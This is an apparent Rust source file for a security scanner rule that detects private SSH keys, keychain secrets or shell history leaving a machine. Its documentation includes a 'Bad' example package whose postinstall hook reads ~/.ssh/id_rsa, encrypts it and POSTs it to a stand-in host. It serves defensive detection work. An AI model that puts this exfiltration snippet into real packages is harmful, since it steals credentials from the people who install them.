//! # A private key or stored password is seen leaving
//!
//! Run in a fake world, the code sent a private SSH key, a password of the system's key store or what a shell remembers.
//!
//! ## Why it matters
//!
//! Keys open other machines, and a shell's history holds passwords that were typed. Nobody sends them unasked.
//!
//! ## Known benign uses
//!
//! Agents and SSH clients use keys and do not send them.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const fs = require("fs"), os = require("os");
//! const key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");
//! const { createCipheriv } = require("crypto");
//! const cipher = createCipheriv("aes-256-ctr", Buffer.alloc(32, 7), Buffer.alloc(16, 1));
//! require("https").request("https://collector.invalid/k", { method: "POST" }).end(cipher.update(key)); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const fs = require("fs"), os = require("os");
//! let key;
//! try { key = fs.readFileSync(os.homedir() + "/.ssh/id_rsa"); } catch { key = null; }
//! exports.fingerprint = () => key && require("crypto").createHash("sha256").update(key).digest("base64");
//! ```
//!
//! ## References
//!
//! - Nx: s1ngularity postmortem (August 2025)

use crate::prelude::*;

/// A private key or stored password is seen leaving.
pub struct PrivateKeySeenLeaving;

impl Rule for PrivateKeySeenLeaving {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "private-key-seen-leaving",
            title: "A private key or stored password is seen leaving",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::High,
            specificity: Level::High,
            technique: "T1552.004",
            covers: &["collect-ssh-keys", "collect-keychain", "exfil-encrypted-bundle"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_theirs = |class: SecretClass| {
            matches!(class, SecretClass::SshKey | SecretClass::Keychain | SecretClass::History)
        };
        facts.thefts(is_theirs).for_each(|proof| found.seen(proof));
    }
}
